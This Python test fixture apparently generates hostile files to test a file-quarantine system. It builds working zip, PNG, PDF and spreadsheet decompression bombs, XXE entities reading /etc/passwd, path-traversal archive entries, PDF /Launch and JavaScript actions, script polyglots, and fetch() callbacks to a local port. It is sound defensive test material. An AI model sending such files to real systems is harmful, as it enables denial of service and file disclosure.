"""Hostile files, the same for the same seed. Nothing in them would harm: each carries the shape of an attack only."""

import struct
import zlib
from collections.abc import Callable
from email.message import EmailMessage
from random import Random
from typing import NamedTuple

from inconfidence.quarantine.kinds import LARGEST_FILE
from tests.quarantine import papers
from tests.quarantine.compound import compound, msg

MEGABYTE = 1 << 20
# As large as a file may be; the last kinds are of that size.
BRIMS = 6
# Every so many files, one of these comes beside it.
PAIR = 5
FULL = LARGEST_FILE - 1_000


class Hostile(NamedTuple):
    """A file as it is sent: what it is, the name it goes by, its bytes; `taken`: it may also be kept after all."""

    what: str
    name: str
    data: bytes
    taken: bool = False


# Where files of this kind would call home: port 1 of this machine, or wherever somebody listens.
home = ["http://127.0.0.1:1"]


def hostile(number: int, seed: int) -> Hostile:
    """The file of this number."""
    chance = Random(seed * 1_000_003 + number)
    what, make = KINDS[number % len(KINDS)]
    name, data, taken = make(chance)
    return Hostile(what, name, data, taken)


def brim(number: int, seed: int) -> Hostile:
    """A file as large as may be, or larger, to be sent beside the one of this number."""
    return hostile(len(KINDS) - 1 - number // PAIR % BRIMS, seed + number)


Made = tuple[str, bytes, bool]


def grown(size: int) -> bytes:
    """Ten megabytes that unpack to ten gigabytes: one part, deflated over and over."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(bytes(MEGABYTE)) + compressor.flush(zlib.Z_FULL_FLUSH)
    return block * size + compressor.flush(zlib.Z_FINISH)


def bomb_zip(chance: Random, name: str = "word/media/image1.png", honest: bool = True) -> bytes:
    """A Word document with a part that grows a thousandfold; honest about it in its list, or not."""
    size = chance.choice((500, 2_000, 10_000))
    packed, unpacked = grown(size), size * MEGABYTE
    told = unpacked if honest else 1_000
    crc = chance.getrandbits(32)
    front = papers.docx("A plan")
    end = front.rindex(b"PK\x05\x06")
    start = struct.unpack("<I", front[end + 16 : end + 20])[0]
    body, listed = front[:start], front[start:end]
    at, written = len(body), name.encode()
    told = min(told, 0xFFFFFFFE)
    sizes = struct.pack("<IIIHH", crc, len(packed), told, len(written), 0)
    body += b"PK\x03\x04" + struct.pack("<HHHHH", 20, 0, 8, 0, 33) + sizes + written + packed
    line = struct.pack("<HHHHHH", 20, 20, 0, 8, 0, 33) + sizes + struct.pack("<HHHII", 0, 0, 0, 0, at)
    listed += b"PK\x01\x02" + line + written
    tail = struct.pack("<HHHHIIH", 0, 0, 3, 3, len(listed), len(body), 0)
    return body + listed + b"PK\x05\x06" + tail


def _docx_bomb(chance: Random) -> Made:
    return "plan.docx", bomb_zip(chance), False


def _docx_lying_bomb(chance: Random) -> Made:
    return "plan.docx", bomb_zip(chance, "word/comments.xml", honest=False), False


def _xlsx_bomb(chance: Random) -> Made:
    cell = "<c><v>" + "9" * chance.randint(10, 30) + "</v></c>"
    sheet = f"<worksheet {papers.IN_EXCEL}><sheetData><row>" + cell * 900_000
    return "hours.xlsx", papers.xlsx("a", more={"xl/worksheets/sheet2.xml": sheet}), False


def _png_bomb(chance: Random) -> Made:
    side = chance.choice((9_000, 30_000, 60_000))
    head = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    rows = grown(300)[:-6]
    data = (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", head)
        + _chunk(b"IDAT", b"\x78\x9c" + rows)
        + _chunk(b"IEND", b"")
    )
    return "photo.png", data, False


def _png_words(chance: Random) -> Made:
    words = b"Comment\0\0" + zlib.compress(bytes(200 * MEGABYTE), 9)
    whole = papers.picture()
    return "photo.png", whole[:33] + _chunk(b"zTXt", words) + whole[33:], True


def _chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def _pdf_bomb(chance: Random) -> Made:
    inner = zlib.compress(bytes(chance.choice((200, 900)) * MEGABYTE), 9)
    stream = zlib.compress(inner, 9)
    words = b"<< /Length %d /Filter [/FlateDecode /FlateDecode] >>\nstream\n" % len(stream)
    return "plan.pdf", _with_stream(words + stream + b"\nendstream"), True


def _pdf_deep(chance: Random) -> Made:
    deep = chance.randint(5_000, 60_000)
    return "plan.pdf", papers.pdf(extra="/X " + "[" * deep + "]" * deep), True


def _pdf_many(chance: Random) -> Made:
    drawn = b"q 1 0 0 1 0 0 cm " * 40_000 + b"0 0 m 9 9 l S " * 400_000
    packed = zlib.compress(drawn, 9)
    return (
        "plan.pdf",
        _with_stream(
            b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(packed) + packed + b"\nendstream"
        ),
        True,
    )


def _with_stream(stream: bytes) -> bytes:
    """A PDF whose first page draws this stream; its table is wrong and has to be mended."""
    whole = papers.pdf("a")
    begin, end = whole.index(b"5 0 obj"), whole.index(b"endobj", whole.index(b"5 0 obj"))
    return whole[:begin] + b"5 0 obj\n" + stream + b"\n" + whole[end:]


def _pdf_runs(chance: Random) -> Made:
    action = chance.choice(
        (
            "/JavaScript /JS (app.alert\\(1\\))",
            "/Launch /F (cmd.exe)",
            "/J#61vaScript /JS (a)",
            f"/SubmitForm /F ({home[0]})",
        )
    )
    return "plan.pdf", papers.pdf(extra=f"/OpenAction << /S {action} >>"), False


def _pdf_files(chance: Random) -> Made:
    return "plan.pdf", papers.pdf(extra="/Names << /EmbeddedFiles << /Names [(a) 9 0 R] >> >>"), False


def _two_kinds(chance: Random) -> Made:
    folder = papers.packed({"a.js": "alert(1)"})
    front = chance.choice((papers.pdf(), papers.picture(), papers.picture("JPEG")))
    return chance.choice(("plan.pdf", "scan.png", "page.html")), front + folder, False


def _picture_and_script(chance: Random) -> Made:
    return "scan.gif", b"GIF89a/*" + bytes(chance.randint(10, 90)) + b"*/=1;alert(1)//", False


def _photo_and_script(chance: Random) -> Made:
    return "scan.jpg", papers.picture("JPEG", note="<script>alert(1)</script>"), False


def _program(chance: Random) -> Made:
    begin = chance.choice(
        (b"MZ\x90\x00", b"\x7fELF\x02\x01\x01", b"#!/bin/sh\n", b"\xca\xfe\xba\xbe\0\0\0\x34")
    )
    return (
        chance.choice(("plan.pdf", "scan.png", "letter.docx", "note.txt")),
        begin + chance.randbytes(900),
        False,
    )


def _web_page(chance: Random) -> Made:
    text = chance.choice(
        (
            f"<html><script>fetch('{home[0]}')</script>",
            "<svg onload='alert(1)'/>",
            "<?xml version='1.0'?><x/>",
        )
    )
    return chance.choice(("plan.pdf", "scan.png", "note.txt")), text.encode(), False


def _macros(chance: Random) -> Made:
    part = chance.choice(("word/vbaProject.bin", "word/activeX/activeX1.xml", "xl/macrosheets/sheet1.xml"))
    return "plan.docx", papers.docx("A plan", more={part: chance.randbytes(900)}), False


def _macros_renamed(chance: Random) -> Made:
    types = papers.TYPES.format(
        "/word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"
    )
    return "plan.docx", papers.docx("A plan", more={"[Content_Types].xml": types}), False


def _entities(chance: Random) -> Made:
    grow = "".join(f'<!ENTITY e{n + 1} "{f"&e{n};" * 10}">' for n in range(9))
    outside = f'<!ENTITY x SYSTEM "{chance.choice(("file:///etc/passwd", home[0]))}">'
    head = f'<!DOCTYPE d [<!ENTITY e0 "aaaaaaaaaa">{grow}{outside}]>'
    body = f"{head}<w:document {papers.IN_WORD}><w:t>{chance.choice(('&e9;', '&x;'))}</w:t></w:document>"
    return "plan.docx", papers.docx("a", more={"word/document.xml": body}), False


def _way_out(chance: Random) -> Made:
    name = chance.choice(("../../../tmp/escaped", "/escaped", "..\\..\\escaped", "C:\\escaped"))
    return "plan.docx", papers.docx("a", more={name: "x"}), False


def _many_parts(chance: Random) -> Made:
    return (
        "plan.docx",
        papers.docx("a", more={f"p{n}": "" for n in range(chance.randint(1_001, 9_000))}),
        False,
    )


def _deep_words(chance: Random) -> Made:
    deep = chance.randint(20_000, 200_000)
    body = (
        f"<w:document {papers.IN_WORD}>" + "<w:p>" * deep + "<w:t>a</w:t>" + "</w:p>" * deep + "</w:document>"
    )
    return "plan.docx", papers.docx("a", more={"word/document.xml": body}), True


def _nested_mail(chance: Random) -> Made:
    deep = chance.randint(7, 400)
    data = papers.eml("the inner words").replace(b"\r\n", b"\n")
    for number in range(deep):
        head = f"From: a@b.example\nSubject: {number}\nMIME-Version: 1.0\nContent-Type: message/rfc822\n\n"
        data = head.encode() + data
    return "letter.eml", data, False


def _mixed_mail(chance: Random) -> Made:
    lines = "From: a@b.example\nSubject: x\nMIME-Version: 1.0\n"
    for number in range(chance.randint(50, 300)):
        lines += f'Content-Type: multipart/mixed; boundary="b{number}"\n\n--b{number}\n'
    return "letter.eml", lines.encode(), False


def _mail_parts(chance: Random) -> Made:
    part = "--b\nContent-Type: text/plain\n\nx\n"
    head = 'From: a@b.example\nSubject: x\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="b"\n\n'
    return "letter.eml", (head + part * chance.randint(1_100, 30_000)).encode(), False


def _mail_heads(chance: Random) -> Made:
    to = "To: " + "((((" * chance.randint(5_000, 50_000) + "\n"
    subject = "Subject: " + "=?utf-8?q?" + "=41" * 90_000 + "?=\n"
    return "letter.eml", ("From: a@b.example\n" + to + subject + "Date: x\n\nwords").encode(), True


def _mail_with_bomb(chance: Random) -> Made:
    message = EmailMessage()
    message["From"], message["Subject"], message["Date"] = (
        "a@b.example",
        "x",
        "Thu, 19 Nov 2026 09:30:00 +0000",
    )
    message["Message-ID"] = f"<{chance.getrandbits(64)}@b.example>"
    message.set_content("See what I send")
    for name, data in (("plan.docx", bomb_zip(chance)), ("plan.exe", b"MZ\x90\0" + bytes(90))):
        message.add_attachment(data, maintype="application", subtype="octet-stream", filename=name)
    return "letter.eml", message.as_bytes(), True


def _looped_msg(chance: Random) -> Made:
    data = bytearray(msg("x", attached={"a": bytes(40_000)}))
    table = len(data) - 512
    for number in range(128):
        struct.pack_into("<I", data, table + 4 * number, chance.choice((number, max(0, number - 1), 3)))
    return "letter.msg", bytes(data), True


def _no_msg(chance: Random) -> Made:
    return "letter.msg", compound({"Anything": chance.randbytes(5_000)}), False


def _locked(chance: Random) -> Made:
    return "plan.docx", compound({"EncryptedPackage": chance.randbytes(5_000)}), False


def _cut(chance: Random) -> Made:
    name, data = chance.choice(WHOLE)()
    return name, data[: chance.randint(4, len(data) * 2 // 3)], True


def _altered(chance: Random) -> Made:
    name, whole = chance.choice(WHOLE)()
    data = bytearray(whole)
    for _ in range(chance.randint(1, 60)):
        data[chance.randrange(8, len(data))] = chance.randrange(256)
    return name, bytes(data), True


def _noise(chance: Random) -> Made:
    begin = chance.choice(
        (b"%PDF-1.7\n", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff", b"PK\x03\x04", papers.pdf()[:90])
    )
    return "plan.pdf", begin + chance.randbytes(chance.randint(1_000, MEGABYTE)), False


def _full_text(chance: Random) -> Made:
    words = "".join(chance.choices("abcdefgh \n", k=1_000)).encode()
    return "words.txt", words * (FULL // 1_000), True


def _full_mail(chance: Random) -> Made:
    message = EmailMessage()
    message["From"], message["Subject"] = "a@b.example", "x"
    message["Date"], message["Message-ID"] = (
        "Thu, 19 Nov 2026 09:30:00 +0000",
        f"<{chance.getrandbits(64)}@b>",
    )
    message.set_content("See what I send")
    attached = papers.pdf("A plan") + chance.randbytes(FULL * 73 // 100)
    message.add_attachment(attached, maintype="application", subtype="pdf", filename="plan.pdf")
    return "letter.eml", message.as_bytes(), True


def _full_pdf(chance: Random) -> Made:
    return "plan.pdf", b"%PDF-1.7\n" + chance.randbytes(FULL - 100), False


def _full_folder(chance: Random) -> Made:
    return "plan.docx", b"PK\x03\x04" + chance.randbytes(FULL - 100), False


def _full_word(chance: Random) -> Made:
    return (
        "plan.docx",
        papers.docx("A plan", more={"word/media/image1.png": chance.randbytes(FULL - 9_000)}),
        True,
    )


def _too_large(chance: Random) -> Made:
    return chance.choice(("words.txt", "letter.eml", "plan.pdf")), b"a line\n" * (24 * MEGABYTE // 7), False


WHOLE: tuple[Callable[[], tuple[str, bytes]], ...] = (
    lambda: ("plan.pdf", papers.pdf("A plan", "two")),
    lambda: ("photo.png", papers.picture(size=(300, 300))),
    lambda: ("photo.jpg", papers.picture("JPEG", size=(300, 300))),
    lambda: ("plan.docx", papers.docx("A plan")),
    lambda: ("hours.xlsx", papers.xlsx("a", "b")),
    lambda: ("letter.eml", papers.eml(attached={"p.pdf": papers.pdf()})),
    lambda: ("letter.msg", msg(attached={"p.pdf": papers.pdf()})),
)
KINDS: tuple[tuple[str, Callable[[Random], Made]], ...] = (
    ("a Word bomb", _docx_bomb), ("two kinds in one", _two_kinds), ("a looped message", _looped_msg),
    ("macros", _macros), ("an altered file", _altered), ("a nested e-mail", _nested_mail),
    ("a picture bomb", _png_bomb),
    ("a renamed program", _program), ("a Word bomb that lies", _docx_lying_bomb), ("entities", _entities),
    ("a PDF bomb", _pdf_bomb), ("a file cut off", _cut), ("a PDF that runs", _pdf_runs), ("a way out", _way_out),
    ("an Excel bomb", _xlsx_bomb), ("a renamed page", _web_page), ("parts inside parts", _mixed_mail),
    ("an altered file", _altered), ("words in a picture", _png_words), ("a thousand parts", _many_parts),
    ("a PDF with files", _pdf_files), ("an e-mail of parts", _mail_parts), ("noise", _noise),
    ("a deep PDF", _pdf_deep), ("macros renamed", _macros_renamed), ("an e-mail with a bomb", _mail_with_bomb),
    ("an animation with a script", _picture_and_script), ("deep words", _deep_words), ("a cut file", _cut),
    ("a photo with a script", _photo_and_script), ("heads without end", _mail_heads), ("a drawn-out PDF", _pdf_many),
    ("no message", _no_msg), ("an altered file", _altered), ("locked", _locked),
    ("words to the brim", _full_text), ("an e-mail to the brim", _full_mail), ("noise to the brim", _full_pdf),
    ("a folder to the brim", _full_folder), ("a plan to the brim", _full_word), ("far too much", _too_large),
)  # fmt: skip
